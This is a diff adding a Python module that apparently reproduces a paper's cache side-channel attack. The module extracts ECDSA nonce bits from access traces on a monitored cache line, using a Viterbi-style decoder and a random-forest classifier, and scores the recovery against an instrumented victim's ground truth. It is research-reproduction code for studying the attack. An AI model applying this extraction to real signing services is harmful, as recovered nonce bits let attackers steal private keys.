@@ -1,0 +1,333 @@
+"""Nonce-bit extraction from access traces (Section 7.3).
+
+The monitored line is fetched at every ladder-iteration boundary, and
+again at the iteration midpoint when the bit is 0 (the instrumented
+victim's layout).  Extraction therefore needs two steps:
+
+1. Decide which detected accesses are *iteration boundaries* — the paper
+   trains a random forest for this; a gap-chaining heuristic is provided
+   as an alternative and for bootstrapping.
+2. For every pair of neighboring boundaries at a plausible iteration
+   distance (the paper keeps 8k-12k cycle pairs), read the bit: 0 if an
+   extra access sits near the midpoint, 1 otherwise.
+
+Scoring against the victim's ground truth yields the paper's metrics:
+fraction of nonce bits recovered and bit error rate among them.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import List, Optional, Sequence, Tuple
+
+import numpy as np
+
+from ..errors import ExtractionError, NotTrainedError
+from ..ml import RandomForestClassifier
+from ..victim.ecdsa_victim import SigningGroundTruth
+from .traces import AccessTrace
+
+
+@dataclass(frozen=True)
+class ExtractionConfig:
+    """Extraction knobs; defaults mirror the paper's victim timing."""
+
+    #: Expected ladder-iteration duration (cycles); the attacker knows this
+    #: from the public binary (~9,700 cycles at 2 GHz on Cloud Run).
+    iter_cycles: int = 9700
+    #: Boundary pairs are kept when their spacing is within these fractions
+    #: of the expected duration (the paper's 8k-12k cycle filter).
+    pair_lo: float = 0.82
+    pair_hi: float = 1.24
+    #: Midpoint window (fractions of the iteration) searched for the
+    #: extra access that signals a 0 bit.
+    mid_lo: float = 0.3
+    mid_hi: float = 0.7
+    #: Tolerance (cycles) when matching predicted boundaries to ground
+    #: truth for scoring.
+    match_tolerance: int = 1500
+
+
+@dataclass(frozen=True)
+class ExtractedBit:
+    """One recovered nonce bit with its iteration window."""
+
+    start: int
+    end: int
+    bit: int
+
+
+def _gap_features(times: np.ndarray, idx: int, iter_cycles: float) -> List[float]:
+    """Per-access features: neighborhood gaps normalized by the period."""
+    def gap(a: int, b: int) -> float:
+        if a < 0 or b >= len(times):
+            return 4.0  # sentinel: no neighbor
+        return min(4.0, (times[b] - times[a]) / iter_cycles)
+
+    i = idx
+    return [
+        gap(i - 2, i - 1),
+        gap(i - 1, i),
+        gap(i, i + 1),
+        gap(i + 1, i + 2),
+        gap(i - 1, i + 1),
+        # Phase evidence: how close the forward/backward gaps are to one
+        # full period or half a period.
+        abs(gap(i, i + 1) - 1.0),
+        abs(gap(i, i + 1) - 0.5),
+        abs(gap(i - 1, i) - 1.0),
+        abs(gap(i - 1, i) - 0.5),
+    ]
+
+
+class HeuristicBoundaryClassifier:
+    """Sequence-decoding boundary detector (no training required).
+
+    The monitored line produces one access per iteration *boundary* plus a
+    *midpoint* access for 0 bits; dropouts and noise accesses are mixed in.
+    Looking at one access in isolation cannot separate the boundary phase
+    from the midpoint phase (both repeat with the same period), so this
+    classifier runs a small Viterbi-style dynamic program over the whole
+    trace with two states per access — Boundary (B) and Mid (M) — and
+    phase-consistent transitions:
+
+    * B -> B at one iteration (a 1-bit, or a 0-bit whose mid was missed),
+    * B -> M and M -> B at half an iteration (a detected 0-bit),
+    * M -> M at one iteration (consecutive 0-bits with the boundary
+      between them missed),
+    * B -> B at two iterations (one whole boundary missed).
+
+    Mid-phase labelings score lower than the true phase whenever the nonce
+    has 1 bits, so the decode locks onto the boundary phase and stays
+    there through dropouts instead of drifting like a greedy chain.
+    """
+
+    #: (state_from, state_to, gap_center_iters, gap_tol_iters, score)
+    _TRANSITIONS = (
+        ("B", "B", 1.0, 0.21, 2.0),
+        ("B", "M", 0.5, 0.17, 1.6),
+        ("M", "B", 0.5, 0.17, 1.6),
+        ("M", "M", 1.0, 0.16, 0.8),
+        ("B", "B", 2.0, 0.25, 0.7),
+    )
+
+    def __init__(self, cfg: ExtractionConfig = ExtractionConfig()) -> None:
+        self.cfg = cfg
+
+    def predict_labels(self, trace: AccessTrace) -> List[Tuple[int, str]]:
+        """Label each plausibly-victim access as boundary or mid."""
+        times = sorted(trace.timestamps)
+        if len(times) < 3:
+            return []
+        iter_cycles = float(self.cfg.iter_cycles)
+        max_gap = 2.4 * iter_cycles
+        n = len(times)
+        states = ("B", "M")
+        neg = float("-inf")
+        # dp[i][s]: best score of a decode ending at access i in state s.
+        dp = [[0.0 if s == "B" else -0.5 for s in states] for _ in range(n)]
+        back: List[List[Optional[Tuple[int, int]]]] = [
+            [None, None] for _ in range(n)
+        ]
+        sidx = {"B": 0, "M": 1}
+        # Rolling best decode among accesses far enough in the past that no
+        # normal transition reaches them — lets the path restart after a
+        # monitoring dropout instead of abandoning everything before it.
+        jump_best: Optional[Tuple[float, int, int]] = None
+        jump_ptr = 0
+        for i in range(n):
+            t = times[i]
+            while jump_ptr < i and t - times[jump_ptr] > max_gap:
+                for s in (0, 1):
+                    if jump_best is None or dp[jump_ptr][s] > jump_best[0]:
+                        jump_best = (dp[jump_ptr][s], jump_ptr, s)
+                jump_ptr += 1
+            if jump_best is not None and jump_best[0] > dp[i][0]:
+                dp[i][0] = jump_best[0]
+                back[i][0] = (jump_best[1], jump_best[2])
+            j = i - 1
+            while j >= 0 and t - times[j] <= max_gap:
+                gap_iters = (t - times[j]) / iter_cycles
+                for s_from, s_to, center, tol, score in self._TRANSITIONS:
+                    dev = abs(gap_iters - center)
+                    if dev <= tol:
+                        # Prefer gap-accurate paths: a noise access slightly
+                        # off-phase must lose to the true periodic chain.
+                        weighted = score * (1.0 - 0.6 * (dev / tol) ** 2)
+                        cand = dp[j][sidx[s_from]] + weighted
+                        if cand > dp[i][sidx[s_to]]:
+                            dp[i][sidx[s_to]] = cand
+                            back[i][sidx[s_to]] = (j, sidx[s_from])
+                j -= 1
+        # Backtrack from the globally best endpoint.
+        best_i, best_s = 0, 0
+        best = neg
+        for i in range(n):
+            for s in (0, 1):
+                if dp[i][s] > best:
+                    best, best_i, best_s = dp[i][s], i, s
+        labels: List[Tuple[int, str]] = []
+        pos: Optional[Tuple[int, int]] = (best_i, best_s)
+        while pos is not None:
+            i, s = pos
+            labels.append((times[i], states[s]))
+            pos = back[i][s]
+        return list(reversed(labels))
+
+    def predict_boundaries(self, trace: AccessTrace) -> List[int]:
+        return [t for t, s in self.predict_labels(trace) if s == "B"]
+
+
+#: Descriptive alias: the heuristic is a Viterbi-style sequence decode.
+ViterbiBoundaryClassifier = HeuristicBoundaryClassifier
+
+
+class ForestBoundaryClassifier:
+    """The paper's random-forest boundary classifier.
+
+    Trained on ground-truth-instrumented traces: each detected access is
+    labelled as boundary/non-boundary by proximity to a true iteration
+    boundary; features are the access's local gap neighborhood.
+    """
+
+    def __init__(
+        self,
+        cfg: ExtractionConfig = ExtractionConfig(),
+        forest: Optional[RandomForestClassifier] = None,
+    ) -> None:
+        self.cfg = cfg
+        self.forest = forest if forest is not None else RandomForestClassifier(
+            n_estimators=25, max_depth=10, seed=7
+        )
+        self._fitted = False
+
+    # -- Training -----------------------------------------------------------
+
+    def _label_accesses(
+        self, trace: AccessTrace, truth: SigningGroundTruth
+    ) -> Tuple[np.ndarray, np.ndarray]:
+        times = np.asarray(sorted(trace.timestamps))
+        boundaries = np.asarray(truth.boundaries)
+        feats = []
+        labels = []
+        tol = self.cfg.match_tolerance
+        for i, t in enumerate(times):
+            if not truth.start - tol <= t <= truth.end + tol:
+                continue
+            feats.append(_gap_features(times, i, self.cfg.iter_cycles))
+            nearest = np.min(np.abs(boundaries - t))
+            labels.append(1 if nearest <= tol else 0)
+        return np.asarray(feats), np.asarray(labels)
+
+    def fit(
+        self,
+        traces: Sequence[AccessTrace],
+        truths: Sequence[SigningGroundTruth],
+    ) -> "ForestBoundaryClassifier":
+        xs, ys = [], []
+        for trace, truth in zip(traces, truths):
+            x, y = self._label_accesses(trace, truth)
+            if len(x):
+                xs.append(x)
+                ys.append(y)
+        if not xs:
+            raise ExtractionError("no labelled accesses to train on")
+        self.forest.fit(np.vstack(xs), np.concatenate(ys))
+        self._fitted = True
+        return self
+
+    # -- Inference ------------------------------------------------------------
+
+    def predict_boundaries(self, trace: AccessTrace) -> List[int]:
+        if not self._fitted:
+            raise NotTrainedError("ForestBoundaryClassifier used before fit()")
+        times = sorted(trace.timestamps)
+        if len(times) < 3:
+            return []
+        feats = np.asarray(
+            [_gap_features(np.asarray(times), i, self.cfg.iter_cycles)
+             for i in range(len(times))]
+        )
+        preds = self.forest.predict(feats)
+        return [t for t, p in zip(times, preds) if p == 1]
+
+
+def extract_bits(
+    trace: AccessTrace,
+    boundaries: Sequence[int],
+    cfg: ExtractionConfig = ExtractionConfig(),
+) -> List[ExtractedBit]:
+    """Read nonce bits from boundary pairs (Section 7.3's final step).
+
+    Only neighboring-boundary pairs at a plausible iteration distance are
+    used; the bit is 0 when an extra access falls near the midpoint
+    (instrumented layout), else 1.
+    """
+    times = sorted(trace.timestamps)
+    out: List[ExtractedBit] = []
+    lo = cfg.iter_cycles * cfg.pair_lo
+    hi = cfg.iter_cycles * cfg.pair_hi
+    for a, b in zip(boundaries, boundaries[1:]):
+        span = b - a
+        if not lo <= span <= hi:
+            continue
+        m_lo = a + span * cfg.mid_lo
+        m_hi = a + span * cfg.mid_hi
+        has_mid = any(m_lo <= t <= m_hi for t in times)
+        out.append(ExtractedBit(start=a, end=b, bit=0 if has_mid else 1))
+    return out
+
+
+@dataclass(frozen=True)
+class ExtractionScore:
+    """Paper metrics for one signing trace."""
+
+    n_true_bits: int
+    n_recovered: int
+    n_errors: int
+
+    @property
+    def recovered_fraction(self) -> float:
+        return self.n_recovered / self.n_true_bits if self.n_true_bits else 0.0
+
+    @property
+    def bit_error_rate(self) -> float:
+        return self.n_errors / self.n_recovered if self.n_recovered else 0.0
+
+
+def score_extraction(
+    truth: SigningGroundTruth,
+    extracted: Sequence[ExtractedBit],
+    cfg: ExtractionConfig = ExtractionConfig(),
+) -> ExtractionScore:
+    """Match extracted windows to ground-truth iterations and count errors."""
+    tol = cfg.match_tolerance
+    recovered = 0
+    errors = 0
+    used = [False] * len(extracted)
+    for j, bit in enumerate(truth.bits):
+        t_start = truth.boundaries[j]
+        t_end = truth.boundaries[j + 1]
+        for k, ext in enumerate(extracted):
+            if used[k]:
+                continue
+            if abs(ext.start - t_start) <= tol and abs(ext.end - t_end) <= tol:
+                used[k] = True
+                recovered += 1
+                if ext.bit != bit:
+                    errors += 1
+                break
+    return ExtractionScore(
+        n_true_bits=len(truth.bits), n_recovered=recovered, n_errors=errors
+    )
+
+
+def bits_look_unbiased(
+    extracted: Sequence[ExtractedBit], lo: float = 0.15, hi: float = 0.85,
+    min_bits: int = 12,
+) -> bool:
+    """The WholeSys false-positive filter: enough bits, not heavily biased."""
+    if len(extracted) < min_bits:
+        return False
+    ones = sum(e.bit for e in extracted) / len(extracted)
+    return lo <= ones <= hi
